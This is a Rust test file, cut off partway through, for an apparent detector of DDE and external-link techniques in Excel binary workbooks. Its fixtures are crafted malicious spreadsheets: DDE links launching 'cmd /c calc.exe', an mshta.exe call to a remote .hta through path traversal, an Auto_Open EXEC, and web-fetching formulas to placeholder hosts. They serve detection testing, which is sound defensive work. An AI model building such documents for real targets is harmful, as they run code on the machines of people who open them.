//! The cases of `spec/excel.md` §2.6 with the bytes of §2.3, and what else §2 says of binary
//! workbooks.

mod support;

use std::time::{Duration, Instant};

use ddetect::{Carrier, Confidence, GapKind, Kind, Report, SkipReason, Trigger, Verdict};
use support::package::{Package, rels};
use support::xlsb::{
    Workbook, formula, formula_cell, join, link_part, name_x, record, row, string_token, u32s, wide,
};
use support::xlsx::{dde_link, external_link};
use support::{analyze, dde, techniques, triples};

fn triple(service: &str, topic: &str, item: &str) -> (String, String, String) {
    (service.to_owned(), topic.to_owned(), item.to_owned())
}

fn whole(report: &Report) {
    assert!(report.complete(), "{:#?}", report.gaps());
}

fn unhex(text: &str) -> Vec<u8> {
    let digits: Vec<u32> = text.chars().filter_map(|c| c.to_digit(16)).collect();
    digits
        .chunks(2)
        .map(|pair| (pair[0] << 4 | pair[1]) as u8)
        .collect()
}

/// §2.3, the bytes that Excel wrote.
fn written() -> Workbook {
    let link = unhex(
        "E802 26 0100 03000000 63006D006400 0B000000 2F0063002000630061006C0063002E00650078006500\
         C104 18 0A000000 5F0078006C00620067006E006D002E0041003100\
         CA04 07 02 75 00 00 00 00 01 CB04 00\
         C104 22 0F000000 53007400640044006F00630075006D0065006E0074004E0061006D006500\
         CA04 07 0A 75 00 00 00 00 01 CB04 00 CC04 00",
    );
    let cell = unhex("0B 1A 01000000 00000000 17 0000 07000000 59 0000 01000000 00000000");
    Workbook::new()
        .link(link, "")
        .cells(&join(&[&row(3), &cell]))
}

#[test]
fn case_1_as_excel_writes_it() {
    let report = analyze(&written().build());
    whole(&report);
    assert_eq!(triples(&report), [triple("cmd", "/c calc.exe", "A1")]);
    let finding = dde(&report)[0];
    assert_eq!(finding.used_by, ["Tabelle1!B4"]);
    assert_eq!(
        (finding.kind, finding.trigger),
        (Kind::DdeAuto, Trigger::Open)
    );
    assert_eq!(finding.carrier, Carrier::Supbook);
    assert_eq!(finding.confidence, Confidence::Certain);
    assert_eq!(
        finding.location.path().last(),
        Some("xl/externalLinks/externalLink1.bin")
    );
    assert_eq!(report.document().format.as_str(), "xlsb");
    assert_eq!(report.verdict(), Verdict::Malicious);
}

#[test]
fn case_2_an_ole_link_is_no_dde() {
    let link = link_part(2, "rId1", "Word.Document.8", &[("'", 0x0012)]);
    let target = "http://example.invalid/a.doc";
    let object = record(
        639,
        &join(&[
            &u32s(&[1, 1, 1025]),
            &1_u16.to_le_bytes(),
            &wide("Word.Document.8"),
            &formula(&name_x(0, 1)),
        ]),
    );
    let report = analyze(
        &Workbook::new()
            .link(link, &rels(&[("rId1", "oleObject", target, true)]))
            .after(&join(&[&record(638, b""), &object, &record(640, b"")]))
            .build(),
    );
    whole(&report);
    assert!(dde(&report).is_empty());
    let links: Vec<_> = report.findings().iter().collect();
    assert_eq!(links.len(), 1, "{links:#?}");
    assert_eq!(links[0].carrier, Carrier::OleLink);
    assert_eq!(links[0].target.as_deref(), Some(target));
    assert!(links[0].raw.contains("Word.Document.8"));
    assert_eq!(links[0].trigger, Trigger::Open);
    assert_eq!(links[0].used_by, ["Tabelle1!OLE object"]);
}

#[test]
fn case_3_a_size_beyond_the_end() {
    let mut link = link_part(1, "cmd", "/c calc", &[("x", 2)]);
    link.extend(b"\x08\xff\xff\xff\x7f0123456789");
    let report = analyze(&Workbook::new().link(link, "").build());
    assert_eq!(triples(&report), [triple("cmd", "/c calc", "x")]);
    let gaps = report.gaps();
    assert!(
        !gaps.is_empty() && gaps.iter().all(|gap| gap.kind == GapKind::Damaged),
        "{gaps:#?}"
    );
    assert_eq!(report.verdict(), Verdict::Malicious);
}

#[test]
fn case_4_traversal() {
    let topic = r"\..\..\..\Windows\System32\mshta.exe http://example.invalid/a.hta";
    let report = analyze(&Workbook::new().dde("MSEXCEL", topic, &[("A", 0)]).build());
    whole(&report);
    assert_eq!(triples(&report), [triple("MSEXCEL", topic, "A")]);
    let command = dde(&report)[0].command.as_ref().unwrap();
    assert_eq!(command.image.as_deref(), Some("mshta.exe"));
    assert!(techniques(dde(&report)[0]).contains(&"path-traversal"));
}

/// The containers of extensions and of alternatives are gone into.
#[test]
fn case_5_inside_an_extension() {
    let inner = link_part(1, "cmd", "/c calc", &[("x", 2)]);
    for (begin, end) in [(35, 36), (37, 38)] {
        let link = join(&[&record(begin, &u32s(&[0])), &inner, &record(end, b"")]);
        let report = analyze(&Workbook::new().link(link, "").build());
        whole(&report);
        assert_eq!(triples(&report), [triple("cmd", "/c calc", "x")]);
    }
}

/// §2.2: a link of an unknown kind is DDE if it can be.
#[test]
fn links_of_an_unknown_kind() {
    let report = analyze(
        &Workbook::new()
            .link(link_part(9, "cmd", "/c calc", &[]), "")
            .build(),
    );
    assert_eq!(dde(&report).len(), 1);
    assert_eq!(dde(&report)[0].confidence, Confidence::Low);
    let report = analyze(
        &Workbook::new()
            .link(link_part(9, "C:\\a.xls", "x", &[]), "")
            .build(),
    );
    assert!(dde(&report).is_empty());
    assert!(!report.complete());
}

/// §2.2: the index of a link counts the workbook itself and add-ins, too.
#[test]
fn numbers_of_links_go_by_their_order() {
    let mut workbook = Workbook::new()
        .dde("BLP", "M", &[("bid", 2), ("ask", 2)])
        .link(
            link_part(0, "rId1", "", &[]),
            &rels(&[("rId1", "externalLinkPath", "Book2.xlsx", true)]),
        )
        .cells(&join(&[&row(0), &formula_cell(27, &name_x(0, 2))]));
    let report = analyze(&workbook.build());
    whole(&report);
    let used: Vec<_> = dde(&report).iter().map(|f| f.used_by.clone()).collect();
    assert_eq!(used, [vec![], vec!["Tabelle1!AB1".to_owned()]]);
    assert_eq!(report.verdict(), Verdict::Clean, "{report:#?}");
    let book = report
        .findings()
        .iter()
        .find(|f| f.carrier == Carrier::ExternalWorkbook);
    assert_eq!(book.unwrap().target.as_deref(), Some("Book2.xlsx"));
    // A number that leads nowhere leaves the link unused.
    workbook.rows = join(&[&row(0), &formula_cell(0, &name_x(7, 1))]);
    assert!(
        dde(&analyze(&workbook.build()))
            .iter()
            .all(|f| f.used_by.is_empty())
    );
}

#[test]
fn used_by_names_every_kind_of_place() {
    let uses = name_x(0, 1);
    let range = u32s(&[1, 2, 1, 2]);
    let validation = join(&[
        &u32s(&[0, 1]),
        &range,
        &u32s(&[u32::MAX; 4]),
        &formula(&uses),
        &formula(b""),
    ]);
    let format = join(&[&u32s(&[1, 0, 1]), &range]);
    let rule = join(&[
        &u32s(&[2, 0, 0, 1, 0, 0, 0]),
        &[0, 0],
        &u32s(&[1, 0, 0, u32::MAX]),
        &formula(&uses),
    ]);
    let extended = join(&[
        &u32s(&[6, 1, 2, 1]),
        &range,
        &u32s(&[1, 2, uses.len() as u32, 0]),
        &uses,
    ]);
    // The range of a rule stands with the format around it.
    let rule_14 = join(&[&u32s(&[4, 1, 2, uses.len() as u32, 0]), &uses]);
    let cases: [(u16, Vec<u8>, &str); 9] = [
        (426, join(&[&range, &[0], &formula(&uses)]), "B2:C3"),
        (427, join(&[&range, &formula(&uses)]), "B2:C3"),
        (64, validation, "B2:C3 (data validation)"),
        (463, rule, "B2:C3 (conditional format)"),
        (1053, extended.clone(), "B2:C3 (data validation)"),
        (1048, extended.clone(), "B2:C3 (conditional format)"),
        (1043, extended, "B2:C3 (sparkline)"),
        (1048, rule_14, "B2:C3 (conditional format)"),
        (504, join(&[&u32s(&[1, 1]), &wide("[1]!x")]), "scenario"),
    ];
    for (id, payload, label) in cases {
        let records = join(&[
            &record(461, &format),
            &record(id, &payload),
            &record(462, b""),
        ]);
        let report = analyze(
            &Workbook::new()
                .dde("cmd", "/c calc", &[("x", 2)])
                .after(&records)
                .build(),
        );
        whole(&report);
        assert_eq!(
            dde(&report)[0].used_by,
            [format!("Tabelle1!{label}")],
            "{id}"
        );
    }
}

/// Functions of newer versions are names of the workbook, and names run at opening.
#[test]
fn names_and_functions() {
    let name = |name: &str, rgce: &[u8]| {
        let head = [0; 5];
        let sheet = u32s(&[u32::MAX]);
        record(
            39,
            &join(&[
                &head,
                &sheet,
                &wide(name),
                &formula(rgce),
                &u32s(&[u32::MAX]),
            ]),
        )
    };
    // `WEBSERVICE("http://…")`: the name, the text, a call of two.
    let call = join(&[
        &[0x23],
        &u32s(&[1]),
        &string_token("http://example.invalid/x"),
        &[0x42, 2, 255, 0],
    ]);
    let report = analyze(
        &Workbook::new()
            .names(&name("_xlfn.WEBSERVICE", &[0x1d, 0]))
            .cells(&join(&[&row(0), &formula_cell(0, &call)]))
            .build(),
    );
    whole(&report);
    let found = report.findings();
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(found[0].carrier, Carrier::Function);
    assert_eq!(found[0].target.as_deref(), Some("http://example.invalid/x"));

    // `EXEC("calc.exe")` in a name, with Auto_Open beside it.
    let exec = join(&[&string_token("calc.exe"), &[0x41], &110_u16.to_le_bytes()]);
    let report = analyze(
        &Workbook::new()
            .names(&name("_xlnm.Auto_Open", &[0x1d, 0]))
            .names(&name("x", &exec))
            .build(),
    );
    let found = report.findings();
    assert_eq!(found.len(), 1, "{found:#?}");
    assert_eq!(
        (found[0].kind, found[0].trigger),
        (Kind::Execute, Trigger::Open)
    );
    assert_eq!(found[0].target.as_deref(), Some("calc.exe"));
}

#[test]
fn macro_sheets_run_and_worksheets_do_not() {
    let exec = join(&[&string_token("calc.exe"), &[0x41], &110_u16.to_le_bytes()]);
    let cells = join(&[&row(0), &formula_cell(0, &exec)]);
    assert_eq!(
        analyze(&Workbook::new().cells(&cells).build())
            .findings()
            .len(),
        0
    );
    let mut workbook = Workbook::new().part(
        "xl/macrosheets/sheet1.bin",
        join(&[&record(129, b""), &cells, &record(130, b"")]),
    );
    workbook
        .more_rels
        .push(("rId50", "xlMacrosheet", "macrosheets/sheet1.bin"));
    let report = analyze(&workbook.build());
    whole(&report);
    assert_eq!(report.findings().len(), 1, "{report:#?}");
    assert_eq!(report.findings()[0].carrier, Carrier::Xlm);
    assert_eq!(report.findings()[0].location.cell(), Some("sheet1!A1"));
    // One without anything that matters is said to be there.
    let empty = join(&[&record(129, b""), &record(130, b"")]);
    let mut workbook = Workbook::new().part("xl/macrosheets/sheet1.bin", empty);
    let relation = ("rId50", "xlMacrosheet", "macrosheets/sheet1.bin");
    workbook.more_rels.push(relation);
    let report = analyze(&workbook.build());
    assert!(report.findings().is_empty());
    let skipped: Vec<_> = report.skipped().iter().map(|one| one.reason).collect();
    assert_eq!(skipped, [SkipReason::Macro]);
}

/// [MS-XLSB] 2.4.315, fNoDeps, and 2.4.782.
#[test]
fn everything_may_be_calculated_at_opening() {
    let flags = |value: u16| {
        let record = record(157, &join(&[&[0; 24], &value.to_le_bytes()]));
        Workbook::new().names(&record)
    };
    let sheet = |value: u8| Workbook::new().after(&record(663, &[value]));
    for (workbook, expected) in [
        (flags(0x0001), true),
        (flags(0x0100), true),
        (flags(0x0008), false),
        (sheet(1), true),
        (sheet(0), false),
    ] {
        let workbook = workbook
            .dde("srv", "data", &[("x", 0)])
            .cells(&join(&[&row(0), &formula_cell(0, &name_x(0, 1))]));
        let report = analyze(&workbook.build());
        let found = techniques(dde(&report)[0]).contains(&"recalculate-on-load");
        assert_eq!(found, expected);
    }
}

#[test]
fn texts_are_inert() {
    let text = "=cmd|'/c calc'!A0";
    let cached = record(371, &join(&[&u32s(&[0]), &wide(text)]));
    let values = record(582, &wide(text));
    let strings = join(&[
        &record(159, &u32s(&[1, 1])),
        &record(19, &join(&[&[0], &wide(text)])),
        &record(160, b""),
    ]);
    let workbook = Workbook::new()
        .cells(&join(&[
            &row(1),
            &record(6, &join(&[&u32s(&[0, 0]), &wide(text)])),
        ]))
        .part("xl/sharedStrings.bin", strings)
        .part(
            "xl/x.bin",
            join(&[&link_part(1, "BLP", "M", &[]), &cached, &values]),
        );
    let report = analyze(&workbook.build());
    whole(&report);
    let inert = report.findings().iter().filter(|f| f.kind == Kind::Inert);
    assert_eq!(inert.count(), 1, "{:#?}", report.findings());
    assert_eq!(triples(&report), [triple("BLP", "M", "")]);
    assert_eq!(report.verdict(), Verdict::Clean);
}

/// §2.5, with the layout of LibreOffice's importer.
#[test]
fn connections_lead_outside() {
    let begin = |flags: u16| {
        record(
            201,
            &join(&[
                &[1, 1, 0, 0, 0, 0],
                &flags.to_le_bytes(),
                &[8, 0],
                &u32s(&[5, 1, 7]),
                &[0],
                &wide("my query"),
            ]),
        )
    };
    let end = record(202, b"");
    let database = record(
        203,
        &join(&[
            &[0, 2, 0, 0, 0],
            &wide("Provider=X;Data Source=\\\\host\\db"),
            &wide("select 1"),
        ]),
    );
    let web = record(261, &join(&[&[1, 0, 0], &wide("http://example.invalid/q")]));
    for (flags, more, trigger) in [
        (0, &b""[..], Trigger::Update),
        (0x20, b"", Trigger::Open),
        (0, b"table", Trigger::Open),
    ] {
        let part = join(&[
            &record(429, &u32s(&[2])),
            &begin(flags),
            &database,
            &end,
            &begin(flags),
            &web,
            &end,
            &record(430, b""),
        ]);
        let mut workbook = Workbook::new().part("xl/connections.bin", part);
        if !more.is_empty() {
            let table = record(
                447,
                &join(&[&u32s(&[0x20]), &[0, 0], &u32s(&[7]), &wide("q")]),
            );
            workbook = workbook.part("xl/queryTables/queryTable1.bin", table);
        }
        let report = analyze(&workbook.build());
        whole(&report);
        let seen: Vec<_> = report
            .findings()
            .iter()
            .map(|f| (f.carrier, f.trigger, f.target.as_deref().unwrap()))
            .collect();
        assert_eq!(
            seen,
            [
                (Carrier::Connection, trigger, "\\\\host\\db"),
                (Carrier::WebQuery, trigger, "http://example.invalid/q"),
            ]
        );
    }
}

#[test]
fn hidden_sheets_and_flags_of_the_workbook() {
    let mut workbook = written();
    workbook.state = 2;
    workbook.names = join(&[
        &record(157, &join(&[&[0; 24], &1_u16.to_le_bytes()])),
        &record(153, &u32s(&[0x200])),
    ]);
    let report = analyze(&workbook.build());
    let found = techniques(dde(&report)[0]);
    assert!(
        found.contains(&"very-hidden-sheet") && found.contains(&"recalculate-on-load"),
        "{found:?}"
    );
}

/// §1.8: what a part is, its bytes say, not the package around it.
#[test]
fn binary_and_markup_parts_mix() {
    let markup = external_link(&dde_link("cmd", "/c calc", &["x"]));
    let report = analyze(
        &Workbook::new()
            .link(markup.clone().into_bytes(), "")
            .build(),
    );
    assert_eq!(triples(&report), [triple("cmd", "/c calc", "x")]);
    assert!(!techniques(dde(&report)[0]).contains(&"unreachable"));
    // So they do where blanks or a mark stand in front, or each character has two bytes.
    let wide: Vec<u8> = format!("\u{feff}{markup}")
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let blank = format!("{}{markup}", " ".repeat(100_000)).into_bytes();
    for part in [wide, blank] {
        let report = analyze(&Workbook::new().link(part, "").build());
        assert_eq!(triples(&report), [triple("cmd", "/c calc", "x")]);
    }
    for name in ["xl/externalLinks/externalLink1.xml", "xl/media/image1.png"] {
        let package = support::xlsx::Workbook::new()
            .formula("B4", "[1]!x")
            .dde("a", "b", &["x"])
            .package()
            .part(name, link_part(1, "cmd", "/c calc", &[("x", 2)]));
        let report = analyze(&package.build());
        whole(&report);
        let found = dde(&report);
        let found = found.iter().find(|f| f.service.as_deref() == Some("cmd"));
        let linked = name.ends_with("1.xml");
        let used: &[&str] = if linked { &["Tabelle1!B4"] } else { &[] };
        assert_eq!(found.unwrap().used_by, used, "{name}");
        assert_eq!(techniques(found.unwrap()).contains(&"unreachable"), !linked);
    }
}

/// What its content type says is not hidden by what its bytes hold of other formats.
#[test]
fn signatures_inside_records_hide_nothing() {
    let mut link = record(1, b"PK\x03\x04");
    link.extend(link_part(1, "cmd", "/c calc", &[("x", 2)]));
    let report = analyze(&Workbook::new().link(link, "").build());
    assert_eq!(triples(&report), [triple("cmd", "/c calc", "x")]);
}

/// §1.8: an external link that is outside of the package is a remote reference.
#[test]
fn a_link_part_outside() {
    let target = "http://example.invalid/externalLink1.xml";
    let package = support::xlsx::Workbook::new()
        .formula("A1", "[1]!x")
        .dde("a", "b", &["x"]);
    let relations = rels(&[
        ("rId1", "worksheet", "worksheets/sheet1.xml", false),
        ("rId2", "externalLink", target, true),
    ]);
    let report = analyze(
        &package
            .package()
            .part("xl/_rels/workbook.xml.rels", relations)
            .build(),
    );
    let found = report
        .findings()
        .iter()
        .find(|f| f.target.as_deref() == Some(target));
    assert_eq!(found.unwrap().carrier, Carrier::ExternalWorkbook);
}

/// A table of formulas with every function, number and text of an ordinary sheet is silent.
#[test]
fn ordinary_formulas_are_silent() {
    // SUM(A1:B2)*2
    let area = join(&[&[0x25], &u32s(&[0, 1]), &[0, 0xc0, 1, 0xc0]]);
    let sum = join(&[&area, &[0x42, 1, 4, 0, 0x1e, 2, 0, 5]]);
    let report = analyze(
        &Workbook::new()
            .cells(&join(&[&row(0), &formula_cell(0, &sum)]))
            .build(),
    );
    whole(&report);
    assert!(report.findings().is_empty());
}

#[test]
fn formulas_that_break_off_are_said() {
    for rgce in [&[0x59, 0][..], &[0x05], &[0xff, 0xff], &[0x17, 0xff, 0xff]] {
        let report = analyze(
            &Workbook::new()
                .cells(&join(&[&row(0), &formula_cell(0, rgce)]))
                .build(),
        );
        assert!(report.findings().is_empty());
        assert_eq!(report.complete(), rgce == [0x05], "{rgce:x?}");
    }
}

#[test]
fn storms_are_linear_and_bounded() {
    let link = |records: Vec<u8>| {
        let part = join(&[&link_part(1, "cmd", "/c calc", &[("x", 2)]), &records]);
        Workbook::new().link(part, "").build()
    };
    let item = record(577, &wide("a"));
    let numbers = record(362, &join(&[&u32s(&[u32::MAX]), &[0; 24]]));
    let deep = record(35, b"");
    let named = record(39, &join(&[&[0; 9], &wide("a"), &formula(&[0x1d, 0])]));
    let cell = formula_cell(0, &name_x(0, 1));
    let cases = [
        link(record(1, b"").repeat(1_000_000)),
        link(item.repeat(1_000_000)),
        link(deep.repeat(1_000_000)),
        link(b"\xff\xff\xff\xff\xff\x7f".repeat(10)),
        written().names(&numbers.repeat(100_000)).build(),
        written().names(&named.repeat(200_000)).build(),
        written()
            .names(&record(355, &wide("rId10")).repeat(200_000))
            .build(),
        written().cells(&cell.repeat(200_000)).build(),
        written()
            .after(&record(1053, &u32s(&[6, u32::MAX, u32::MAX])).repeat(100_000))
            .build(),
    ];
    for (at, bytes) in cases.iter().enumerate() {
        let started = Instant::now();
        let report = analyze(bytes);
        assert_eq!(report.verdict(), Verdict::Malicious, "{at}");
        assert!(
            started.elapsed() < Duration::from_secs(60),
            "{at}: {:?}",
            started.elapsed()
        );
    }
}

/// Embedded workbooks have types that begin alike, and toolbars are no records.
#[test]
fn other_parts_with_such_types() {
    let inner = support::xlsx::Workbook::new()
        .dde("cmd", "/c calc", &["x"])
        .build();
    let types = support::package::content_types(&[
        (
            "/xl/embeddings/a.xlsm",
            "application/vnd.ms-excel.sheet.macroEnabled.12",
        ),
        ("/xl/embeddings/b.xlsm", "application/vnd.ms-excel.sheet"),
        (
            "/xl/attachedToolbars.bin",
            "application/vnd.ms-excel.attachedToolbars",
        ),
    ]);
    let package = support::xlsx::Workbook::new().package();
    let report = analyze(
        &package
            .part("[Content_Types].xml", types)
            .part("xl/embeddings/a.xlsm", inner.clone())
            .part("xl/embeddings/b.xlsm", inner)
            .part(
                "xl/attachedToolbars.bin",
                &b"\x08\x00\x00\xff\xff\x7f toolbar"[..],
            )
            .build(),
    );
    whole(&report);
    assert_eq!(dde(&report).len(), 2, "{report:#?}");
}

fn base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let bits = (0..3).fold(0, |bits, at| {
            bits << 8 | u32::from(*chunk.get(at).unwrap_or(&0))
        });
        for at in 0..4 {
            let digit = DIGITS[(bits >> (18 - 6 * at) & 63) as usize] as char;
            out.push(if at <= chunk.len() { digit } else { '=' });
        }
    }
    out
}

/// §1.6: the Power Query package is XML in a binary workbook, too, and Excel writes it in UTF-16.
#[test]
fn power_query_in_a_binary_workbook() {
    let section = "section Section1;\r\nshared Q = let u = \"http://example.invalid/\", \
                   Source = Excel.Workbook(Web.Contents(u & \"a.xlsx\")) in Source;";
    let zip = support::package::zip(&[("Formulas/Section1.m", section.as_bytes())]);
    let package = join(&[&u32s(&[0, zip.len() as u32]), &zip, &u32s(&[0, 0])]);
    let xml = format!(
        "\u{feff}<?xml version=\"1.0\" encoding=\"utf-16\"?><DataMashup \
         xmlns=\"http://schemas.microsoft.com/DataMashup\">{}</DataMashup>",
        base64(&package)
    );
    let item: Vec<u8> = xml.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let connection = join(&[
        &record(
            201,
            &join(&[
                &[1, 1, 0, 0, 0, 0, 0x20, 0, 8, 0],
                &u32s(&[5, 1, 1]),
                &[0],
                &wide("Query - Q"),
            ]),
        ),
        &record(
            203,
            &wide("Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=Q"),
        ),
        &record(202, b""),
    ]);
    let workbook = Workbook::new().part("customXml/item1.xml", item);
    for (workbook, trigger) in [
        (workbook.clone(), Trigger::Update),
        (
            workbook.part(
                "xl/connections.bin",
                join(&[&record(429, &u32s(&[1])), &connection]),
            ),
            Trigger::Open,
        ),
    ] {
        let report = analyze(&workbook.build());
        whole(&report);
        assert_eq!(report.findings().len(), 1, "{:#?}", report.findings());
        let found = &report.findings()[0];
        assert_eq!((found.carrier, found.trigger), (Carrier::WebQuery, trigger));
        assert_eq!(
            found.target.as_deref(),
            Some("http://example.invalid/a.xlsx")
        );
        let last = found.location.path().last();
        assert_eq!(last, Some("Formulas/Section1.m"));
    }
}

/// Which part is read first is up to whoever packs it: the names and numbers of the workbook count
/// for sheets that are read before it, too.
#[test]
fn sheets_that_are_read_before_the_workbook() {
    // A name that begins so is a function of a later version: PtgName, an argument, 255.
    let name = record(
        39,
        &join(&[
            &u32s(&[0]),
            &[0],
            &u32s(&[u32::MAX]),
            &wide("_xlfn.WEBSERVICE"),
            &formula(&[0x1c, 0x1d]),
            &u32s(&[u32::MAX]),
        ]),
    );
    let call = join(&[
        &[0x23],
        &u32s(&[1]),
        &string_token("http://a.invalid/x"),
        &[0x42, 2, 255, 0],
    ]);
    let workbook = Workbook::new()
        .dde("cmd", "/c calc", &[("A1", 2)])
        .names(&name)
        .cells(&join(&[
            &row(3),
            &formula_cell(1, &name_x(0, 1)),
            &formula_cell(2, &call),
        ]));
    let ordered = analyze(&workbook.build());
    let first = rels(&[
        ("rId9", "worksheet", "xl/worksheets/sheet1.bin", false),
        ("rId1", "officeDocument", "xl/workbook.bin", false),
    ]);
    let mut package = Package::empty();
    for (name, bytes) in workbook.package().parts() {
        let bytes = match name.as_str() {
            "_rels/.rels" => first.clone().into_bytes(),
            _ => bytes.clone(),
        };
        package = package.part(name, bytes);
    }
    let report = analyze(&package.build());
    whole(&report);
    for report in [&ordered, &report] {
        assert_eq!(triples(report), [triple("cmd", "/c calc", "A1")]);
        assert_eq!(dde(report)[0].used_by, ["Tabelle1!B4"]);
        assert_eq!(dde(report)[0].kind, Kind::DdeAuto);
        let calls: Vec<_> = report
            .findings()
            .iter()
            .filter(|finding| finding.carrier == Carrier::Function)
            .collect();
        assert_eq!(calls.len(), 1, "{:#?}", report.findings());
        assert_eq!(calls[0].target.as_deref(), Some("http://a.invalid/x"));
        assert_eq!(calls[0].used_by, ["Tabelle1!C4"]);
    }
}

/// [MS-XLSB] 2.4.299, 2.4.297: servers that the workbook remembers; those of cubes are none.
#[test]
fn servers_of_real_time_data() {
    for (kind, servers) in [(0, 1), (1, 0)] {
        let part = join(&[
            &record(514, b""),
            &record(516, &u32s(&[kind])),
            &record(518, &wide("my.server")),
            &record(522, &wide("ordinary")),
            &record(519, b""),
            &record(517, b""),
            &record(515, b""),
        ]);
        let mut workbook = Workbook::new().part("xl/volatileDependencies.bin", part);
        let relation = ("rId5", "volatileDependencies", "volatileDependencies.bin");
        workbook.more_rels.push(relation);
        let report = analyze(&workbook.build());
        whole(&report);
        assert_eq!(report.findings().len(), servers, "{:#?}", report.findings());
        for finding in report.findings() {
            assert_eq!(finding.target.as_deref(), Some("my.server"));
            assert_eq!(finding.carrier, Carrier::Function);
        }
    }
}

/// [MS-XLSB] 2.4.168, fRefreshOnLoad, and 2.4.167: a cache of another workbook.
#[test]
fn pivot_caches_that_refresh_at_opening() {
    for (flags, trigger) in [(0x04, Trigger::Open), (0, Trigger::Update)] {
        let part = join(&[
            &record(179, &[3, 3, 3, flags, 0, 0, 0, 0]),
            &record(185, &u32s(&[0, 0])),
            &record(
                187,
                &join(&[&[0, 0, 3], &wide("S"), &wide("rId1"), &[0; 16]]),
            ),
        ]);
        let target = "http://a.invalid/b.xlsx";
        let rels = rels(&[("rId1", "externalLinkPath", target, true)]);
        let name = "xl/pivotCache/pivotCacheDefinition1.bin";
        let mut workbook = Workbook::new().part(name, part).part(
            "xl/pivotCache/_rels/pivotCacheDefinition1.bin.rels",
            rels.into_bytes(),
        );
        workbook.more_rels.push((
            "rId5",
            "pivotCacheDefinition",
            "pivotCache/pivotCacheDefinition1.bin",
        ));
        let report = analyze(&workbook.build());
        whole(&report);
        assert_eq!(report.findings().len(), 1, "{:#?}", report.findings());
        let finding = &report.findings()[0];
        assert_eq!(finding.target.as_deref(), Some(target));
        assert_eq!(finding.carrier, Carrier::ExternalWorkbook);
        assert_eq!(finding.trigger, trigger);
    }
}

/// [MS-XLSB] 2.4.124: the formula of a calculated item.
#[test]
fn calculated_items_of_pivot_caches() {
    // RTD, 379 in the table of functions, of three arguments.
    let call = join(&[
        &string_token("my.server"),
        &[0x16],
        &string_token("x"),
        &[0x42, 3],
        &379_u16.to_le_bytes(),
    ]);
    let part = join(&[
        &record(179, &[3, 3, 3, 0, 0, 0, 0, 0]),
        &record(243, &u32s(&[1])),
        &record(245, &join(&[&u32s(&[u32::MAX]), &formula(&call)])),
    ]);
    let report = analyze(&Workbook::new().part("xl/cache.bin", part).build());
    whole(&report);
    assert_eq!(report.findings().len(), 1, "{:#?}", report.findings());
    assert_eq!(report.findings()[0].target.as_deref(), Some("my.server"));
}

/// [MS-XLSB] 2.4.136, fldFmla: it stands behind the names, and the flag of bit 8 says so.
#[test]
fn formulas_of_calculated_fields() {
    // RTD("my.server",,"x").
    let call = join(&[
        &string_token("my.server"),
        &[0x16],
        &string_token("x"),
        &[0x42, 3, 0x7b, 1],
    ]);
    for (flags, caption, expected) in [(0x0104, false, 1), (0x010c, true, 1), (0x0004, false, 0)] {
        let mut body = join(&[&u16::to_le_bytes(flags), &[0; 18], &wide("field")]);
        if caption {
            body.extend(wide("shown"));
        }
        body.extend(formula(&call));
        let part = join(&[
            &record(179, &[3, 3, 3, 0, 0, 0, 0, 0]),
            &record(181, &u32s(&[1])),
            &record(183, &body),
        ]);
        let report = analyze(&Workbook::new().part("xl/cache.bin", part).build());
        whole(&report);
        let found: Vec<_> = report
            .findings()
            .iter()
            .map(|f| f.target.as_deref())
            .collect();
        assert_eq!(found, vec![Some("my.server"); expected], "{flags:#x}");
    }
}

/// A type with more than two bytes is none of the format (§2.1): that is said. Programs that read
/// types as they read sizes see another part, and that is read, too.
#[test]
fn types_of_records_with_more_than_two_bytes() {
    let link = link_part(1, "cmd", "/c calc.exe", &[("A1", 0x7502)]);
    assert_eq!(&link[..2], [0xe8, 0x02]);
    let long = join(&[&[0xe8, 0x82, 0], &link[2..]]);
    let cells = join(&[&row(3), &formula_cell(1, &name_x(0, 1))]);
    let report = analyze(&Workbook::new().link(long, "").cells(&cells).build());
    assert_eq!(triples(&report), [triple("cmd", "/c calc.exe", "A1")]);
    assert_eq!(dde(&report)[0].used_by, ["Tabelle1!B4"]);
    assert_eq!(report.verdict(), Verdict::Malicious);
    assert!(!report.complete());
}

/// A link in an extension inside an item: what follows is of the item around it.
#[test]
fn an_item_goes_on_behind_an_extension() {
    let inner = link_part(1, "srv", "data", &[("z", 0)]);
    let extension = join(&[&record(35, &[0, 0, 0x10, 0]), &inner, &record(36, &[])]);
    let part = join(&[
        &record(360, &join(&[&[1, 0], &wide("cmd"), &wide("/c calc.exe")])),
        &record(577, &wide("A1")),
        &extension,
        &record(586, &[2, 0x75, 0, 0, 0, 0, 1]),
        &record(587, &[]),
        &record(588, &[]),
    ]);
    let cells = join(&[&row(3), &formula_cell(1, &name_x(0, 1))]);
    let report = analyze(&Workbook::new().link(part, "").cells(&cells).build());
    let found = dde(&report);
    let outer = found.iter().find(|f| f.service.as_deref() == Some("cmd"));
    let outer = outer.expect("the link around the extension");
    assert_eq!(outer.item.as_deref(), Some("A1"));
    // Only the flags behind the extension say that it updates by itself.
    assert_eq!(outer.trigger, Trigger::Open);
    assert_eq!(outer.used_by, ["Tabelle1!B4"]);
    assert!(triples(&report).contains(&triple("srv", "data", "z")));
}

/// A record that opens a connection says nothing of the records of other kinds behind it.
#[test]
fn an_open_connection_hides_nothing() {
    let opens = record(201, &[]);
    let in_extension = join(&[&record(35, &[0, 0, 0x10, 0]), &opens, &record(36, &[])]);
    for stray in [opens, in_extension] {
        let link = link_part(1, "cmd", "/c calc.exe", &[("A1", 0x7502)]);
        let cells = join(&[&stray, &row(3), &formula_cell(1, &name_x(0, 1))]);
        let workbook = Workbook::new()
            .link(join(&[&stray, &link]), "")
            .cells(&cells);
        let report = analyze(&workbook.build());
        assert_eq!(triples(&report), [triple("cmd", "/c calc.exe", "A1")]);
        assert_eq!(dde(&report)[0].used_by, ["Tabelle1!B4"]);
        assert_eq!(report.verdict(), Verdict::Malicious);
    }
}

/// What stands in an extension has no part in what numbers count.
#[test]
fn decoys_in_extensions_change_no_number() {
    let inside = |records: &[u8]| {
        let begin = record(35, &[0, 0, 0x10, 0]);
        join(&[&begin, records, &record(36, &[])])
    };
